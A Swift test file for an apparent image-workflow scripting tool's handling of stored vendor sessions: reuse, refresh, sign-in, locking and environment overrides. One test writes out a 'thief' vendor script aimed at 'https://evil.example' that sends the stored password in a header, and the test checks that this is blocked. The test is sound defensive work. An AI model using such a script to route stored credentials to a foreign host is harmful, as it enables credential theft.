import ImgFlowRuntime
import ImgFlowValues
import ImgFlowVendors
import Synchronization
import Testing

/// A profile in memory that writes down what happens to it.
private final class TestProfile: VendorProfile {
  struct State {
    var entry: ProfileEntry?
    var locks = 0
    /// What another process keeps as soon as the lock is taken.
    var other: KeptSession?
  }

  let state: Mutex<State>

  init(_ entry: ProfileEntry?, other: KeptSession? = nil) {
    state = Mutex(State(entry: entry, other: other))
  }

  var session: KeptSession? { state.withLock { $0.entry?.session } }
  var locks: Int { state.withLock { $0.locks } }

  func entry(of vendor: String, at address: String) -> ProfileEntry? {
    state.withLock { $0.entry }.flatMap { $0.address == address ? $0 : nil }
  }

  func keep(_ session: KeptSession, of vendor: String) {
    state.withLock { $0.entry?.session = session }
  }

  func exclusively<Result>(
    for vendor: String, _ cancellation: Cancellation, _ body: () throws -> Result
  ) throws -> Result {
    state.withLock { state in
      state.locks += 1
      if let other = state.other { state.entry?.session = other }
    }
    return try body()
  }
}

@Suite("Sessions that are kept")
struct ProfileTests {
  private static let address = "https://api.expoze.app"
  private static let account = ["username": "me@example.com", "password": "hunter-two"]
  private static let now = 1_700_001_000_000

  private static func session(_ id: String, ends: Int? = nil) -> KeptSession {
    KeptSession(fields: Answers.session(id), opened: now - 3_600_000, ends: ends)
  }

  private func host(_ environment: [String: String] = [:]) -> TestHost {
    let tokens = Counter()
    return TestHost(environment: environment) { request in
      guard request.line.hasPrefix("POST /auth/token") else {
        return request.header("Authorization") == "Bearer \(Answers.token("dead"))"
          ? .json("{}", status: 401) : .json("[]")
      }
      return .json(Answers.session("new\(tokens.next())"))
    }
  }

  private func run(
    _ host: TestHost, _ profile: TestProfile, _ source: String = "expoze.listSpaces()"
  ) -> Script.Result {
    var settings = VendorSettings()
    settings.profile = profile
    return Script(host: host, settings: settings).run(source)
  }

  @Test func aKeptSessionIsUsed() {
    let host = host()
    let profile = TestProfile(
      ProfileEntry(address: Self.address, values: Self.account, session: Self.session("a")))
    #expect(run(host, profile).error == nil)
    #expect(host.lines == ["GET /spaces.json"])
    #expect(host.requests[0].header("Authorization") == "Bearer \(Answers.token("a"))")
  }

  @Test func withoutASessionTheKeptCredentialsSignIn() throws {
    let host = host()
    let profile = TestProfile(ProfileEntry(address: Self.address, values: Self.account))
    #expect(run(host, profile).error == nil)
    #expect(host.lines == ["POST /auth/token", "GET /spaces.json"])
    #expect(host.requests[0].json == #"{"username":"me@example.com","password":"hunter-two"}"#)
    let kept = try #require(profile.session)
    #expect(kept.fields.contains(Answers.token("new1")))
    #expect(kept.opened == Self.now)
    #expect(kept.ends == Self.now + 60_480_000)
  }

  @Test func aSessionThatHasEndedIsRenewedBeforeTheCallAndKept() {
    let host = host()
    let profile = TestProfile(
      ProfileEntry(
        address: Self.address, values: Self.account,
        session: Self.session("a", ends: Self.now + 30_000)))
    #expect(run(host, profile).error == nil)
    #expect(host.lines == ["POST /auth/token/refresh", "GET /spaces.json"])
    #expect(profile.session?.fields.contains(Answers.token("new1")) == true)
    #expect(profile.locks == 1)
  }

  @Test func whatAnotherProcessHasRenewedIsUsed() {
    let host = host()
    let profile = TestProfile(
      ProfileEntry(
        address: Self.address, values: Self.account, session: Self.session("dead")),
      other: Self.session("b"))
    #expect(run(host, profile).error == nil)
    #expect(host.lines == ["GET /spaces.json", "GET /spaces.json"])
    #expect(host.requests[1].header("Authorization") == "Bearer \(Answers.token("b"))")
  }

  @Test func whenTheRefreshTokenIsSpentTheKeptCredentialsSignIn() {
    let host = TestHost { request in
      switch request.line {
      case "POST /auth/token": .json(Answers.session("new"))
      case "POST /auth/token/refresh": .json(#"{"code":401,"message":"spent"}"#, status: 401)
      default:
        request.header("Authorization") == "Bearer \(Answers.token("new"))"
          ? .json("[]") : .json("{}", status: 401)
      }
    }
    let profile = TestProfile(
      ProfileEntry(address: Self.address, values: Self.account, session: Self.session("dead")))
    #expect(run(host, profile).error == nil)
    #expect(
      host.lines == [
        "GET /spaces.json", "POST /auth/token/refresh", "POST /auth/token", "GET /spaces.json",
      ])
  }

  @Test func aSessionThatCannotBeRenewedSaysHowToGoOn() {
    let host = TestHost { request in
      .json(#"{"error":"invalid_grant"}"#, status: request.method == "POST" ? 400 : 401)
    }
    var settings = VendorSettings()
    settings.profile = TestProfile(
      ProfileEntry(
        address: "https://app.assetzen.net", values: ["client_id": "a", "client_secret": "b"],
        session: KeptSession(
          fields: #"{"access_token":"old-token","refresh_token":"old-refresh"}"#, opened: Self.now,
          ends: nil)))
    let result = Script(
      host: host, settings: settings, sources: ["assetzen": Declarations.builtIn("assetzen")]
    ).run("assetzen.listAlbums()")
    #expect(result.kind == "auth")
    #expect(
      result.message
        == "the session of assetzen has ended and could not be renewed: `assetzen.refresh` failed with 400 Bad Request: invalid_grant"
    )
    #expect(result.caught?.help?.hasPrefix("run `imgflow login assetzen`, ") == true)
  }

  @Test func theEnvironmentWins() {
    let host = host(["EXPOZE_USERNAME": "other@example.com", "EXPOZE_PASSWORD": "pass-phrase"])
    let profile = TestProfile(
      ProfileEntry(address: Self.address, values: Self.account, session: Self.session("a")))
    #expect(run(host, profile).error == nil)
    #expect(host.lines == ["POST /auth/token", "GET /spaces.json"])
    #expect(host.requests[0].json.contains("other@example.com"))
    #expect(profile.session == Self.session("a"))
  }

  @Test func anotherAccountsSessionIsNotKept() {
    let host = host()
    let profile = TestProfile(
      ProfileEntry(address: Self.address, values: Self.account, session: Self.session("a")))
    let result = run(
      host, profile,
      "use expoze\nlogin(\"other@example.com\", \"pass-phrase\")\nrefreshToken()\nlistSpaces()")
    #expect(result.error == nil, "\(result.message)")
    #expect(profile.session == Self.session("a"))
  }

  @Test func nothingIsSentToAnotherAddressOrToAScriptsOwnVendor() {
    let host = host()
    let profile = TestProfile(
      ProfileEntry(
        address: "http://127.0.0.1:1/expoze", values: Self.account, session: Self.session("a")))
    #expect(run(host, profile).kind == "auth")
    let thief = """
      vendor expoze {
        base "https://evil.example"
        credentials { password: secret from env "NOT_SET" }
        auth header "X": credentials.password
        operation take() -> object
          GET "/take"
      }
      expoze.take()
      """
    let own = TestProfile(ProfileEntry(address: "https://evil.example", values: Self.account))
    #expect(run(host, own, thief).error != nil)
    #expect(host.requests.isEmpty)
  }

  @Test func oneRefreshServesAHundredCallsWithAKeptSession() {
    let host = host()
    let profile = TestProfile(
      ProfileEntry(address: Self.address, values: Self.account, session: Self.session("dead")))
    let result = run(
      host, profile,
      "print((parallel(limit: 100) for i in 1...100 { expoze.listSpaces() }).length)")
    #expect(result.output == "100", "\(result.message)")
    #expect(host.lines.count { $0.hasPrefix("POST") } == 1)
    #expect(host.lines.count { $0.hasPrefix("GET") } <= 200)
  }
}
